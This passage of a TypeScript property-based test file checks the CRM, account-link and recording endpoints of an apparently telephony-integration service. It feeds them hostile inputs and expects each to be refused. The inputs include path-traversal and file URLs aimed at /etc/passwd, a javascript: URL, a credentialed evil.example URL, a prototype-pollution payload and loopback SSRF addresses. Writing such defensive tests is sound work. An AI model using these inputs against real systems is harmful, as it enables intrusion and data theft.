    const before = await snapshot();
    const reply = await send(request.url, request.init);
    if (!expected.ok) {
      expectRefusal(reply, expected, { pairs, transport });
      expect(await snapshot()).toEqual(before);
      return;
    }
    expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify({ pairs, transport })).toEqual({
      status: 200,
      body: { success: true },
    });
    const user = await db().crmUser.findUniqueOrThrow({
      where: { accountId_crmUserId: { accountId: statuses.id, crmUserId: Number(request.params.userId!.trim()) } },
    });
    expect(user.status).toBe(request.params.status);
  }

  it("stores the status of every good report", async () => {
    await fc.assert(
      fc.asyncProperty(goodStatus, transportArb, async (pairs, transport) =>
        checkUserStatus(withStatusesIdentity(pairs), transport),
      ),
      runs(20),
    );
  });

  it("refuses hostile, missing and repeated parameters precisely and changes nothing", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodStatus,
        fc.array(mutationArb(["clientId", "userId", "status"]), { minLength: 1, maxLength: 3 }),
        transportArb,
        async (pairs, mutations, transport) => {
          await checkUserStatus(mutate(withStatusesIdentity(pairs), mutations), transport);
        },
      ),
      runs(70),
    );
  });

  it("refuses a hostile code with a message that names it", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodStatus,
        fc.oneof(hostile, fc.constantFrom("1".repeat(10), "1".repeat(11))),
        transportArb,
        async (pairs, code, transport) => {
          await checkUserStatus(
            mutate(withStatusesIdentity(pairs), [{ kind: "set", key: "code", value: code }]),
            transport,
          );
        },
      ),
      runs(25),
    );
  });

  it("refuses a userId beyond the numbers a CRM user id can be with 400 naming it", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.constantFrom("2147483648", "999999999999", "4294967296"),
          fc.bigInt({ min: BigInt(INT4_MAX) + BigInt(1), max: BigInt(999_999_999_999) }).map(String),
        ),
        async (userId) => {
          await checkUserStatus(
            [
              ["clientId", statuses.clientId],
              ["userId", userId],
              ["status", "free"],
            ],
            { kind: "get" },
          );
        },
      ),
      runs(5),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/api/crm/activity", () => {
  function activityContract(p: Params): Expected {
    if (!get(p, "clientId")) return refuse(400, "Parameter 'clientId' is missing");
    const activity = get(p, "activity");
    if (!activity) return refuse(400, "Parameter 'activity' is missing");
    let value: unknown;
    try {
      value = JSON.parse(activity);
    } catch {
      return refuse(400, "Parameter 'activity' is not valid JSON");
    }
    const v = value as { active?: unknown; freeze?: unknown } | null;
    if (
      !v ||
      typeof v !== "object" ||
      Array.isArray(v) ||
      typeof v.active !== "boolean" ||
      (v.freeze !== undefined && typeof v.freeze !== "boolean")
    ) {
      return refuse(400, 'Parameter \'activity\' must be {"active": bool, "freeze": bool}');
    }
    if (p.clientId !== switched.clientId) return refuse(401, "unknown clientId");
    return OK;
  }

  const activityValue = fc.oneof(
    {
      weight: 3,
      arbitrary: fc
        .record(
          { active: fc.boolean(), freeze: fc.option(fc.boolean(), { nil: undefined }) },
          { requiredKeys: ["active"] },
        )
        .map((v) => JSON.stringify(v)),
    },
    {
      weight: 1,
      arbitrary: fc
        .record({ active: fc.boolean(), freeze: fc.boolean(), extra: fc.jsonValue() })
        .map((v) => JSON.stringify(v)),
    },
  );
  const hostileActivity = fc.oneof(
    hostile,
    fc.json(),
    fc.constantFrom(
      '{"active":"yes"}',
      '{"active":1,"freeze":0}',
      '{"active":true,"freeze":null}',
      "[true,false]",
      '"{\\"active\\":true}"',
      `${"[".repeat(5000)}${"]".repeat(5000)}`,
      '{"active":true,"__proto__":{"freeze":"x"}}',
      '{"active":true',
      "{'active': true}",
    ),
  );
  // The account exists only once beforeAll ran: .map() reads it when a value is drawn.
  const systemUrl = fc.oneof(
    fc.constant(null),
    fc.constant("").map(() => switched.crmUrl),
    fc.constant("").map(() => switched.crmUrl.replace(/\/$/, "")),
    fc.constant("").map(() => `${switched.crmUrl}some/path?x=1`),
    fc.constant("").map(() => ` ${switched.crmUrl.toUpperCase()} `),
  );
  /** Not a CRM address: must never become one (stored, or sent the API key). */
  const hostileSystemUrl = fc.oneof(
    hostile,
    fc.constantFrom(
      "../../etc/passwd",
      "https://..",
      "http://x..y",
      "javascript:alert(1)",
      "file:///etc/passwd",
      "https://user:pw@evil.example",
      "ftp://crm.example",
    ),
  );

  const goodActivity = fc
    .tuple(activityValue, systemUrl)
    .map(([activity, url]): Pairs => [
      ["clientId", "@switched@"],
      ["activity", activity],
      ...(url === null ? [] : [["systemUrl", url] as [string, string]]),
    ]);
  const withSwitchedIdentity = (pairs: Pairs): Pairs =>
    pairs.map(([k, v]) => [k, v === "@switched@" ? switched.clientId : v] as const);
  const postOnly = transportArb.filter((t) => t.kind !== "get");

  async function checkActivity(pairs: Pairs, transport: Transport, systemUrlIsHostile = false) {
    const request = encode("/api/crm/activity", pairs, transport);
    const expected = withinBodyLimit(request, activityContract(request.params));
    const before = await snapshot();
    const account = await db().account.findUniqueOrThrow({ where: { id: switched.id } });
    const reply = await send(request.url, request.init);
    const context = { pairs, transport };
    if (!expected.ok) {
      expectRefusal(reply, expected, context);
      expect(await snapshot()).toEqual(before);
      return;
    }
    const after = await db().account.findUniqueOrThrow({ where: { id: switched.id } });
    if (systemUrlIsHostile && reply.status !== 200) {
      // Refusing the request for its systemUrl is as good as ignoring the systemUrl, if it names it.
      expectRefusal(reply, refuse(400, /systemUrl/), context);
      expect(await snapshot()).toEqual(before);
      return;
    }
    expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify(context)).toEqual({
      status: 200,
      body: { success: true },
    });
    const activity = JSON.parse(request.params.activity!) as { active: boolean; freeze?: boolean };
    expect({ active: after.active, freeze: after.freeze, crmUrl: after.crmUrl }, JSON.stringify(context)).toEqual({
      active: activity.active,
      freeze: activity.freeze ?? false,
      crmUrl: account.crmUrl,
    });
  }

  it("stores every good activity of the module", async () => {
    await fc.assert(
      fc.asyncProperty(goodActivity, postOnly, async (pairs, transport) =>
        checkActivity(withSwitchedIdentity(pairs), transport),
      ),
      runs(20),
    );
  });

  it("refuses hostile, missing and repeated clientId and activity precisely and changes nothing", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodActivity,
        fc.array(mutationArb(["clientId", "activity"]), { minLength: 1, maxLength: 2 }),
        postOnly,
        async (pairs, mutations, transport) => {
          await checkActivity(mutate(withSwitchedIdentity(pairs), mutations), transport);
        },
      ),
      runs(60),
    );
    await fc.assert(
      fc.asyncProperty(goodActivity, hostileActivity, postOnly, async (pairs, activity, transport) => {
        await checkActivity(
          mutate(withSwitchedIdentity(pairs), [{ kind: "set", key: "activity", value: activity }]),
          transport,
        );
      }),
      runs(40),
    );
  });

  it("never takes a systemUrl that is not a CRM address as the account's CRM", async () => {
    await fc.assert(
      fc.asyncProperty(goodActivity, hostileSystemUrl, postOnly, async (pairs, url, transport) => {
        await checkActivity(
          mutate(withSwitchedIdentity(pairs), [{ kind: "set", key: "systemUrl", value: url }]),
          transport,
          true,
        );
      }),
      runs(25),
    );
  });

  it("refuses a systemUrl that another account already has (4xx naming it) and changes nothing", async () => {
    const before = await snapshot();
    const reply = await send("/api/crm/activity", {
      method: "POST",
      body: new URLSearchParams({
        clientId: switched.clientId,
        activity: '{"active":true,"freeze":false}',
        systemUrl: crm.url,
      }).toString(),
      headers: { "content-type": "application/x-www-form-urlencoded" },
    });
    expect(reply.status).toBeGreaterThanOrEqual(400);
    expect(reply.status).toBeLessThan(500);
    expect(jsonOf(reply)).toEqual({ success: false, errorMsg: expect.stringMatching(/systemUrl/) });
    expect(await snapshot()).toEqual(before);
  });

  it("answers a multipart body it cannot parse with 400 naming the body", async () => {
    await fc.assert(
      fc.asyncProperty(malformedMultipart, async ({ contentType, body }) => {
        fc.pre(await unparseable(contentType, body));
        const reply = await send(
          `/api/crm/activity?${new URLSearchParams({ clientId: switched.clientId, activity: '{"active":true}' })}`,
          { method: "POST", body, headers: { "content-type": contentType } },
        );
        expectRefusal(reply, refuse(400, "the request body is not valid multipart/form-data"), { contentType });
      }),
      runs(5),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/api/crm/config and /api/crm/register (marketplace)", () => {
  it("answers the config the same to any query", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.oneof(hostile, fc.constantFrom(...JUNK_KEYS)), hostile), { maxLength: 4 }),
        async (pairs) => {
          const query = new URLSearchParams(pairs.map(([k, v]) => [k, v])).toString();
          fc.pre(query.length <= MAX_QUERY);
          const reply = await send(`/api/crm/config?${query}`);
          expect([reply.status, jsonOf(reply)]).toEqual([
            200,
            { success: true, scopes: expect.any(Array), registerUrl: `${env().PUBLIC_URL}/api/crm/register` },
          ]);
        },
      ),
      runs(15),
    );
  });

  const FIELDS = ["systemUrl", "apiKey", "token"] as const;
  function registerContract(p: Params): Expected {
    const register = get(p, "register");
    if (!register) return refuse(400, "Parameter 'register' is missing");
    let value: unknown;
    try {
      value = JSON.parse(register);
    } catch {
      return refuse(400, "Parameter 'register' is not valid JSON");
    }
    if (!value || typeof value !== "object" || Array.isArray(value))
      return refuse(400, /^Parameter 'register' must be a JSON object$/);
    const v = value as Record<string, unknown>;
    const limits = { systemUrl: 255, apiKey: 200, token: 200 };
    const invalid = FIELDS.filter(
      (f) => typeof v[f] !== "string" || len(v[f] as string) < 1 || len(v[f] as string) > limits[f],
    );
    if (invalid.length) return refuse(400, `Parameter 'register' is invalid: ${invalid.join(", ")}`);
    const { apiKey, token } = v as Record<(typeof FIELDS)[number], string>;
    if (token.toLowerCase() !== hmacToken(MARKETPLACE_SECRET, apiKey)) return refuse(401, "Invalid token");
    return OK;
  }

  const goodRegister = fc
    .tuple(fc.constantFrom("", "/", "/some/path", "/?a=1"), fc.boolean(), fc.boolean())
    .map(([suffix, upper, spaces]) => ({ suffix, upper, spaces }));
  const registerPairs = (fields: Record<string, unknown>): Pairs => [["register", JSON.stringify(fields)]];
  const postOnly = transportArb.filter((t) => t.kind !== "get");

  async function checkRegister(pairs: Pairs, transport: Transport, connectsTo: string | null) {
    const request = encode("/api/crm/register", pairs, transport);
    const expected = withinBodyLimit(request, registerContract(request.params));
    const before = await snapshot();
    const reply = await send(request.url, request.init);
    const context = { pairs, transport };
    if (!expected.ok) {
      expectRefusal(reply, expected, context);
      expect(await snapshot()).toEqual(before);
      return;
    }
    if (connectsTo === null) {
      // A good token for a CRM that is not one: 400 with the reason, and no account.
      expect(reply.status, JSON.stringify(context)).toBe(400);
      expect(jsonOf(reply)).toEqual({ success: false, errorMsg: expect.any(String) });
      const after = await snapshot();
      expect(after).toEqual(before);
      return;
    }
    const account = await db().account.findUniqueOrThrow({ where: { crmUrl: connectsTo } });
    expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify(context)).toEqual({
      status: 200,
      body: { success: true, accountUrl: cabinetUrl(decryptSecret(account.cabinetTokenEnc!)) },
    });
    expect(account.active).toBe(true);
  }

  it("connects the CRM of every good register request", async () => {
    await fc.assert(
      fc.asyncProperty(goodRegister, postOnly, async ({ suffix, upper, spaces }, transport) => {
        const token = hmacToken(MARKETPLACE_SECRET, DEMO.apiKey);
        const systemUrl = `${spaces ? " " : ""}${crm2.url}${suffix}`;
        await checkRegister(
          registerPairs({ systemUrl, apiKey: DEMO.apiKey, token: upper ? token.toUpperCase() : token }),
          transport,
          `${crm2.url}/`,
        );
      }),
      runs(8),
    );
  });

  it("refuses a missing, malformed, mistyped or unsigned register precisely and stores nothing", async () => {
    const field = fc.oneof(hostile, fc.constantFrom<unknown>(1, null, true, [], {}, "", "x".repeat(256)));
    const registerValue = fc.oneof(
      hostile,
      fc.json(),
      fc.record({ systemUrl: field, apiKey: field, token: field }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
      fc.tuple(field, hostile).map(([apiKey, token]) => JSON.stringify({ systemUrl: crm2.url, apiKey, token })),
      fc.constantFrom("null", "[]", "123", '"register"', "{", `${"{".repeat(3000)}`),
    );
    await fc.assert(
      fc.asyncProperty(registerValue, postOnly, fc.boolean(), async (register, transport, repeated) => {
        const pairs: Pairs = repeated
          ? [
              ["register", "{}"],
              ["register", register],
            ]
          : [["register", register]];
        await checkRegister(pairs, transport, null);
      }),
      runs(60),
    );
  });

  it("answers a correctly signed register for an address or key that is no CRM's with 400 and stores nothing", async () => {
    const notACrm = fc.oneof(
      hostile.filter((v) => v.trim() !== "" && v.length <= 255),
      fc.constantFrom(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://user:pw@crm.example",
        "localhost:1",
        "http://127.0.0.1:1",
      ),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          notACrm.map((systemUrl) => ({ systemUrl, apiKey: DEMO.apiKey })),
          hostile.filter((k) => k.length >= 1 && k.length <= 200).map((apiKey) => ({ systemUrl: crm2.url, apiKey })),
        ),
        postOnly,
        async (fields, transport) => {
          fc.pre(fields.apiKey.trim() !== DEMO.apiKey || fields.systemUrl !== crm2.url);
          await checkRegister(
            registerPairs({ ...fields, token: hmacToken(MARKETPLACE_SECRET, wire(fields.apiKey)) }),
            transport,
            null,
          );
        },
      ),
      runs(20),
    );
  });

  it("answers a multipart body it cannot parse with 400 naming the body", async () => {
    await fc.assert(
      fc.asyncProperty(malformedMultipart, async ({ contentType, body }) => {
        fc.pre(await unparseable(contentType, body));
        const reply = await send("/api/crm/register", {
          method: "POST",
          body,
          headers: { "content-type": contentType },
        });
        expectRefusal(reply, refuse(400, "the request body is not valid multipart/form-data"), { contentType });
      }),
      runs(5),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/account (accountUrl)", () => {
  it("opens the cabinet only for the account's clientId with its current link's token, once, and sends anything else to the login page without a session", async () => {
    const clientId = fc.oneof(fc.constant("@clientId@"), hostile, edge("clientId"), fc.constant(""));
    const token = fc.oneof({ weight: 3, arbitrary: fc.constant("@token@") }, hostile, fc.constant(""));
    const currentToken = async () =>
      decryptSecret((await db().account.findUniqueOrThrow({ where: { id: main.id } })).cabinetTokenEnc!);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom("clientId", "clientId", "token", ...JUNK_KEYS), clientId), { maxLength: 3 }),
        fc.array(fc.tuple(fc.constant("token"), token), { maxLength: 2 }),
        transportArb,
        async (pairs, tokens, transport) => {
          const current = await currentToken();
          const request = encode(
            "/account",
            [...withIdentity(pairs), ...tokens.map(([k, v]) => [k, v === "@token@" ? current : v] as const)],
            transport,
          );
          const wanted = get(request.params, "clientId");
          const before = await snapshot();
          const reply = await send(request.url, request.init);
          const base = env().PUBLIC_URL;
          const expected = withinBodyLimit(request, OK);
          if (!expected.ok) {
            expectRefusal(reply, expected, { transport });
            expect(await snapshot()).toEqual(before);
            return;
          }
          const signsIn = wanted === main.clientId && get(request.params, "token") === current;
          const location = !wanted
            ? `${base}/login?error=missing-client`
            : wanted !== main.clientId
              ? `${base}/login?error=unknown-client`
              : signsIn
                ? `${base}/cabinet/phones`
                : `${base}/login?error=stale-link`;
          expect(
            { status: reply.status, location: reply.headers.get("location") },
            JSON.stringify({ pairs, tokens, transport }).slice(0, 2000),
          ).toEqual({ status: 303, location });
          if (signsIn) {
            expect(reply.headers.get("set-cookie")).toMatch(/^next-auth\.session-token=[^;]+;.*HttpOnly/i);
            // The link just used is dead, and the CRM holds the next one.
            const next = await currentToken();
            expect(next).not.toBe(current);
            expect(
              crm.state.modules.get((await db().account.findUniqueOrThrow({ where: { id: main.id } })).moduleCode)
                ?.accountUrl,
            ).toBe(cabinetUrl(next));
          } else {
            expect(reply.headers.get("set-cookie")).toBeNull();
            expect(await currentToken()).toBe(current);
          }
          expect(await snapshot()).toEqual(before);
        },
      ),
      runs(50),
    );
  });

  it("answers a multipart body it cannot parse with 400 naming the body", async () => {
    await fc.assert(
      fc.asyncProperty(malformedMultipart, async ({ contentType, body }) => {
        fc.pre(await unparseable(contentType, body));
        const reply = await send("/account", { method: "POST", body, headers: { "content-type": contentType } });
        expectRefusal(reply, refuse(400, "the request body is not valid multipart/form-data"), { contentType });
      }),
      runs(5),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/recordings/<id>/<signature>", () => {
  let link: { id: number; path: string; bytes: Buffer };

  beforeAll(async () => {
    const bytes = pcmWav(8000, 1);
    const uniqueid = freshUniqueid();
    const reply = await send(
      `/api/event?${new URLSearchParams({ clientId: main.clientId, type: "upload", uniqueid })}`,
      { method: "POST", body: bytes },
    );
    const { recordingId } = jsonOf(reply) as { recordingId: number };
    link = { id: recordingId, path: new URL(recordingUrl({ recordingId }, main.clientId)).pathname, bytes };
  });

  /** RFC 9110 §14: one satisfiable range is 206, a range past the end 416, anything else the whole file. */
  function rangeOf(header: string | undefined, size: number): { start: number; end: number } | "unsatisfiable" | null {
    const match = header?.trim().match(/^bytes\s*=\s*(\d*)\s*-\s*(\d*)$/i);
    if (!match || (match[1] === "" && match[2] === "")) return null;
    if (match[1] === "") {
      const suffix = Number(match[2]);
      return suffix === 0 ? "unsatisfiable" : { start: Math.max(0, size - suffix), end: size - 1 };
    }
    const start = Number(match[1]);
    if (match[2] !== "" && Number(match[2]) < start) return null;
    if (start >= size) return "unsatisfiable";
    return { start, end: match[2] === "" ? size - 1 : Math.min(Number(match[2]), size - 1) };
  }

  it("streams the recording to its link with any Range header: 200, 206 or 416, with the right bytes", async () => {
    const range = fc.oneof(
      fc.constant(undefined),
      fc
        .tuple(fc.option(fc.nat(20_000), { nil: undefined }), fc.option(fc.nat(20_000), { nil: undefined }))
        .map(([a, b]) => `bytes=${a ?? ""}-${b ?? ""}`),
      fc.constantFrom(
        "bytes=0-0",
        "bytes=-0",
        "bytes=0-",
        "bytes=-1",
        "bytes=99999999999999999999-",
        "bytes=0-99999999999999999999",
        "bytes=1-2,3-4",
        "items=0-1",
        "bytes=a-b",
        "bytes= 1 - 2 ",
        "BYTES=0-1",
        "bytes=-",
        "",
      ),
      hostile.filter((h) => /^[\t\x20-\x7e]*$/.test(h)),
    );
    await fc.assert(
      fc.asyncProperty(range, async (header) => {
        const reply = await send(link.path, { headers: header === undefined ? {} : { range: header } });
        const size = link.bytes.length;
        const expected = rangeOf(header, size);
        const context = JSON.stringify(header);
        if (expected === "unsatisfiable") {
          expect([reply.status, reply.headers.get("content-range")], context).toEqual([416, `bytes */${size}`]);
        } else if (expected === null) {
          expect(reply.status, context).toBe(200);
          expect(reply.body.equals(link.bytes)).toBe(true);
        } else {
          expect([reply.status, reply.headers.get("content-range")], context).toEqual([
            206,
            `bytes ${expected.start}-${expected.end}/${size}`,
          ]);
          expect(reply.body.equals(link.bytes.subarray(expected.start, expected.end + 1))).toBe(true);
        }
      }),
      runs(40),
    );
  });

  it("answers 404 to any other id or signature, also ones no recording id can be", async () => {
    const segment = fc.oneof(
      hostile,
      fc.constantFrom(
        "0",
        "-1",
        "1.0",
        "01",
        "2147483647",
        "2147483648",
        "9999999999",
        "99999999999",
        "1e3",
        " 1",
        "%2F",
      ),
      fc.nat().map(String),
    );
    await fc.assert(
      fc.asyncProperty(segment, fc.oneof(segment, fc.constant(link.path.split("/")[3]!)), async (id, sig) => {
        fc.pre(id.trim() !== "" && sig.trim() !== "" && !(id === String(link.id) && sig === link.path.split("/")[3]));
        const path = `/recordings/${encodeURIComponent(wire(id))}/${encodeURIComponent(wire(sig))}`;
        const reply = await send(path);
        // Node's HTTP server refuses a request line longer than its header limit (16 KiB) itself.
        if (reply.status === 431) expect(path.length, JSON.stringify({ id, sig })).toBeGreaterThan(10_000);
        else expect([reply.status, reply.text], JSON.stringify({ id, sig })).toEqual([404, "Not found"]);
      }),
      runs(50),
    );
  });

  it("answers 404 to segments with bad percent-encoding, lone surrogates and NUL (as the route receives them)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(hostile, fc.constantFrom("%E0%A4%A", "%", "%zz", "\ud800")),
        fc.oneof(hostile, fc.constant("%ff")),
        async (id, sig) => {
          const response = await recordingRoute.GET(
            new Request(`${app.url}/recordings/x/y`, { headers: { "x-forwarded-for": freshSource() } }),
            { params: Promise.resolve({ id, sig }) },
          );
          expect(response.status, JSON.stringify({ id, sig })).toBe(404);
        },
      ),
      runs(40),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/data/event.sh", () => {
  // Without a clientId the route asks for the cabinet session, which needs Next's request scope:
  // that case is the Playwright suite's.
  const clientId = fc.oneof(
    fc.constant("@clientId@"),
    hostile.filter((v) => v !== ""),
    edge("clientId").filter((v) => v !== ""),
  );

  async function checkEventSh(values: string[]) {
    const pairs = withIdentity(values.map((v) => ["clientId", v] as const));
    const query = new URLSearchParams(pairs.map(([k, v]) => [k, v])).toString();
    fc.pre(query.length <= MAX_QUERY);
    const wanted = lastWins([...new URLSearchParams(query)]).clientId;
    fc.pre(wanted !== "");
    const reply = await send(`/data/event.sh?${query}`);
    if (wanted === main.clientId) {
      expect(reply.status, JSON.stringify(values)).toBe(200);
      expect(reply.text).toContain(`\nCLIENTID="${main.clientId}"\n`);
    } else {
      expect([reply.status, reply.text], JSON.stringify(values)).toEqual([404, "unknown clientId\n"]);
    }
  }

  it("serves the script only for the account's clientId and 404 for any other", async () => {
    await fc.assert(
      fc.asyncProperty(clientId, async (value) => checkEventSh([value])),
      runs(30),
    );
  });

  it("takes a repeated clientId with its last value, as every other endpoint does", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(clientId, { minLength: 2, maxLength: 2 }), async (values) => {
        await checkEventSh(values);
      }),
      runs(30),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("after all of it", () => {
  it("every stored call, event, delivery, recording, manager and account passes its invariants, and the recordings directory holds only stored recordings", async () => {
    await expectSoundRows();
  });
});
